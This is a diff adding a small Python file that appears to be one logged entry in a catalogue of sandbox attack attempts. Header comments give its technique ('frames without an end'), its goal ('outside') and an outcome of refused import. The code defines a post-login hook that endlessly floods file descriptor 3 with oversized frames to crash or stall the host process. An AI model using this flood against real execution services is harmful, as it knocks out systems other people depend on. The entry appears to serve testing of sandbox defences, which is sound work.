@@ -1,0 +1,21 @@
+# origin: own
+# technique: frames without an end
+# goal: outside
+# outcome: refused:import-not-allowed
+# kernel: CRASHED | TIMED_OUT
+import os
+def frame(payload):
+    return len(payload).to_bytes(4, "big") + payload
+
+def answer(sequence, body):
+    return frame(sequence.to_bytes(8, "big") + body)
+
+def write(data):
+    while data:
+        data = data[os.write(3, data):]
+
+
+def on_execute_post_login(event, api):
+    junk = frame(b"x" * 60000)
+    while True:
+        write(junk)
